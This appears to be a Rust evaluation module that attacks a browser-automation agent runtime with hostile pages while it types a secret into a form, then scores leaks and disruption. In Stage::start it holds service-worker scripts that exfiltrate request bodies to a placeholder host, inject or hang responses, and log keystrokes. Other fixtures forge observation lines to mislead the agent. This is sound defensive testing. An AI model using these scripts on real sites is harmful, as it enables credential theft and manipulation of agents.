//! Hostile pages: each tries to disturb the executor, or to make it do something that the rules forbid, while a form on
//! it is filled in, a secret included. Afterwards an ordinary page has to work in the same session.

mod fixtures;

use std::{sync::Arc, time::Duration};

use futures_util::{StreamExt, stream};
use legwork::{
    Runtime,
    page::{Page, PageRequest},
    protocol::{Action, ActionFailure, Click, Dialog, Fill, Open, Target, View},
    secrets::SecretSpec,
};
use tokio_util::sync::CancellationToken;
use url::Url;

use self::fixtures::Fixture;
use super::{
    listener::Listener,
    plan::AttackPlan,
    report::ClassReport,
    scanner::Scanner,
    scene::settings,
    site::{DOWNLOAD_MARKER, Site},
};
use crate::EvalError;

const BASE: &str = include_str!("base.html");
/// The value of the secret that is typed into every page.
const SECRET: &str = "Hostile-page-passphrase-vwx";
/// The time after which a page counts as hanging. Each action has a limit of its own, and all of them together take
/// less.
const HANG: Duration = Duration::from_secs(120);
/// In a short plan, one page of this many.
const SAMPLE: usize = 12;
/// The most bytes of a download.
const LARGEST_DOWNLOAD: &str = "1000000";

/// The places of one page.
struct Stage {
    home: Site,
    /// Another site that the rules allow; the secret is not bound to it.
    other: Site,
    away: Listener,
    folder: tempfile::TempDir,
}

/// What one page did.
#[derive(Default)]
struct Played {
    breaches: Vec<String>,
    failures: Vec<String>,
    /// Whether the form arrived at the site.
    ordered: bool,
}

/// The names of all pages.
pub(super) fn names() -> Vec<String> {
    fixtures::all().into_iter().map(|fixture| fixture.name).collect()
}

/// Carries out the class.
pub(super) async fn attack(plan: &AttackPlan, report: &mut ClassReport) -> Result<(), EvalError> {
    // Each page replaces this rule by its own; it is here so that the browser is started for pages with rules.
    let rules = [("allowed_domains", "127.0.0.1:1".to_owned())];
    let rules: &[_] = if plan.ablate { &[] } else { &rules };
    let runtime = Arc::new(Runtime::open(settings(plan, "pages", rules)?).await?);
    let wanted = fixtures::all().into_iter().filter(|fixture| plan.wants(&fixture.name));
    let step = if plan.short { SAMPLE } else { 1 };
    let fixtures: Vec<Fixture> = wanted.step_by(step).collect();
    let host = &runtime;
    let mut results = stream::iter(fixtures)
        .map(async |fixture| {
            let played = tokio::time::timeout(HANG, play(&fixture, plan, host)).await;
            (fixture.name, played)
        })
        .buffer_unordered(plan.jobs.into());
    while let Some((name, played)) = results.next().await {
        report.attempts += 1;
        match played {
            Ok(played) => {
                let played = played?;
                report.count("forms that arrived", usize::from(played.ordered));
                report.breaches.extend(played.breaches.into_iter().map(|what| format!("{name}: {what}")));
                report.failures.extend(played.failures.into_iter().map(|what| format!("{name}: {what}")));
            }
            Err(_) => report.failures.push(format!("{name}: it hung for {} s", HANG.as_secs())),
        }
    }
    drop(results);
    runtime.close().await;
    Ok(())
}

async fn play(fixture: &Fixture, plan: &AttackPlan, runtime: &Arc<Runtime>) -> Result<Played, EvalError> {
    let stage = Stage::start(fixture).await.map_err(EvalError::io("the sites of a page"))?;
    let page = open(&stage, plan, runtime).await?;
    let mut played = Played::default();
    let never = CancellationToken::new();
    let view = View::default();
    let mut seen = String::new();
    let secret = "${secret:pw}".to_owned();
    let fill =
        |target: &str, text: String| Action::Fill(Fill { target: Target(target.to_owned()), text, submit: false });
    let go = || Action::Click(Click::on(Target("#go".to_owned())));
    let actions = [
        Action::Open(Open { url: format!("{}/hostile", stage.home.origin) }),
        fill("#user", "Ada".to_owned()),
        fill("#pw", secret),
        go(),
        // A form whose first click went astray is sent by the second one.
        go(),
    ];
    for action in actions {
        let acted = page.act_with_diff(&action, &view, &never).await;
        seen.push_str(&acted.change.map(|change| change.text).unwrap_or_default());
        seen.push('\n');
        if let Some(failure) = acted.result.failure {
            seen.push_str(&failure.to_string());
            if let ActionFailure::BrowserGone { reason } = failure {
                played.failures.push(format!("the browser is gone: {reason}"));
                break;
            }
        }
        // Alerts of the page block everything until they are answered.
        page.act(&Action::Dialog(Dialog::answer(false, None)), &never).await;
    }
    played.ordered = stage.home.requests().iter().any(|request| request.target == "/order");
    ordinary(&page, &stage, &mut played).await;
    // Whatever the page has begun ends with its context.
    let _ = page.close().await;
    judge(fixture, &stage, &seen, &mut played);
    Ok(played)
}

impl Stage {
    async fn start(fixture: &Fixture) -> std::io::Result<Stage> {
        let (home, other, away) = (Site::start().await?, Site::start().await?, Listener::start().await?);
        let authority = format!("127.0.0.1:{}", away.port);
        let markup = fixture
            .markup
            .replace("%ELSEWHERE%", &format!("http://{authority}"))
            .replace("%AWAY%", &authority)
            .replace("%OTHER%", &other.origin);
        home.page("/hostile", BASE.replace("%MARKUP%", &markup));
        home.page("/ordinary", "<!doctype html><title>Ordinary</title><h1>Ordinary</h1>");
        let script = |code: &str| code.replace("%ELSEWHERE%", &format!("http://{authority}"));
        let begin = "addEventListener('activate', e => e.waitUntil(clients.claim())); addEventListener('install', () => skipWaiting());";
        for (name, code) in [
            ("plain", ""),
            (
                "answers",
                "addEventListener('fetch', e => e.respondWith(e.request.url.includes('/ordinary') ? fetch(e.request) : new Response('<h1>Injected</h1>', { headers: { 'content-type': 'text/html' } })))",
            ),
            (
                "hangs",
                "addEventListener('fetch', e => { if (!e.request.url.includes('/ordinary')) e.respondWith(new Promise(() => {})) })",
            ),
            (
                "sends",
                "addEventListener('fetch', e => { e.waitUntil(e.request.clone().text().then(body => fetch('%ELSEWHERE%', { method: 'POST', mode: 'no-cors', body }))) })",
            ),
        ] {
            home.put(&format!("/worker-{name}.js"), "text/javascript", format!("{begin}{}", script(code)));
        }
        for site in [&home, &other] {
            site.page("/frame", "<!doctype html><title>Frame</title><input id=pw autofocus><script>document.querySelector('input').addEventListener('input', e => fetch('/typed', { method: 'POST', body: e.target.value }))</script>");
        }
        Ok(Stage { home, other, away, folder: tempfile::tempdir()? })
    }
}

async fn open(stage: &Stage, plan: &AttackPlan, runtime: &Arc<Runtime>) -> Result<Page, EvalError> {
    let file = stage.folder.path().join("pw");
    std::fs::write(&file, SECRET).map_err(EvalError::file(&file))?;
    let authority = |site: &Site| site.origin.replace("http://", "");
    let mut more = vec![
        ("downloads.dir", stage.folder.path().join("downloads").display().to_string()),
        ("downloads.max_size", LARGEST_DOWNLOAD.to_owned()),
        ("timeouts.script", "3s".to_owned()),
        ("timeouts.request", "6s".to_owned()),
        ("timeouts.connection", "3s".to_owned()),
    ];
    if !plan.ablate {
        more.push(("allowed_domains", format!("{},{}", authority(&stage.home), authority(&stage.other))));
    }
    let bound = if plan.ablate { "*" } else { &stage.home.origin };
    let spec = format!("pw={}@{bound}", file.display());
    let request = PageRequest {
        secrets: vec![SecretSpec::parse(&spec).expect("a path and an origin of ours")],
        site: Url::parse(&stage.home.origin).ok(),
        settings: Some(settings(plan, "pages", &more)?),
        ..PageRequest::default()
    };
    Ok(runtime.open_page(request).await?)
}

/// An ordinary page has to work in the session of the hostile one.
async fn ordinary(page: &Page, stage: &Stage, played: &mut Played) {
    let never = CancellationToken::new();
    let open = Action::Open(Open { url: format!("{}/ordinary", stage.home.origin) });
    let mut last = String::new();
    // The first attempt may end the hostile page, and a dialog may be open.
    for _ in 0..3 {
        page.act(&Action::Dialog(Dialog::answer(true, None)), &never).await;
        let opened = page.act(&open, &never).await;
        last = opened.failure.map(|failure| failure.to_string()).unwrap_or_default();
        if last.is_empty() {
            match page.observe(&View::default()).await {
                Ok(observed) if observed.text.contains("Ordinary") => return,
                Ok(observed) => last = format!("it shows {:?}", observed.text.chars().take(200).collect::<String>()),
                Err(failure) => last = failure.to_string(),
            }
        }
    }
    played.failures.push(format!("an ordinary page does not work in its session: {last}"));
}

/// Looks for forbidden effects.
fn judge(fixture: &Fixture, stage: &Stage, seen: &str, played: &mut Played) {
    let mut breach = |what: String| played.breaches.push(what);
    let scanner = Scanner::new([SECRET].into_iter());
    stage.away.take().into_iter().for_each(|contact| breach(format!("a forbidden port: {contact}")));
    for request in stage.other.requests() {
        for (_, encoding) in scanner.found(&request.text()) {
            breach(format!("another site received the secret ({encoding}) at {}", request.target));
        }
    }
    for (_, encoding) in scanner.found(seen) {
        breach(format!("an observation shows the secret ({encoding})"));
    }
    // Some other pages have a button with this name.
    let imitates = fixture.name.starts_with("imitation-");
    imitated(seen, imitates).for_each(|line| breach(format!("a page wrote a line of an observation: {line}")));
    files(stage.folder.path(), &mut breach);
}

/// Lines of an observation that a page wrote, whatever a reader takes for the end of a line.
fn imitated(seen: &str, imitates: bool) -> impl Iterator<Item = &str> {
    let ends = ['\n', '\r', '\u{b}', '\u{85}', '\u{2028}'];
    let lines = seen.split(ends).map(str::trim_start);
    lines.filter(move |line| imitates && line.starts_with("- button \"Injected\"") || line.starts_with("```"))
}

fn files(folder: &std::path::Path, breach: &mut impl FnMut(String)) {
    let downloads = folder.join("downloads");
    let limit: usize = LARGEST_DOWNLOAD.parse().expect("a number");
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        if entry.path() != downloads && entry.file_name() != "pw" {
            breach(format!("a file outside the folder of downloads: {}", entry.path().display()));
        }
    }
    for entry in std::fs::read_dir(&downloads).into_iter().flatten().flatten() {
        let content = std::fs::read(entry.path()).unwrap_or_default();
        if content.len() > limit && content.starts_with(DOWNLOAD_MARKER.as_bytes()) {
            breach(format!("a download of {} bytes", content.len()));
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::fixtures::IMITATIONS;

    #[test]
    fn an_imitated_line_is_noticed_after_every_end_of_a_line() {
        let begins = ['\n', '\u{b}', '\u{85}', '\u{2028}'];
        let of_lines = IMITATIONS.iter().filter(|text| begins.iter().any(|end| text.contains(*end)));
        assert_eq!(of_lines.clone().count(), 8);
        for text in of_lines {
            let seen = format!("- text \"{text}\"");
            assert_ne!(super::imitated(&seen, true).count(), 0, "{text:?}");
        }
        assert_eq!(super::imitated("- button \"Injected\" [ref=e1]\n- text \"- button\"", false).count(), 0);
    }

    #[test]
    fn there_are_enough_pages_and_each_has_a_name_of_its_own() {
        let names = super::names();
        assert!(names.len() >= 200, "{}", names.len());
        assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), names.len());
    }
}
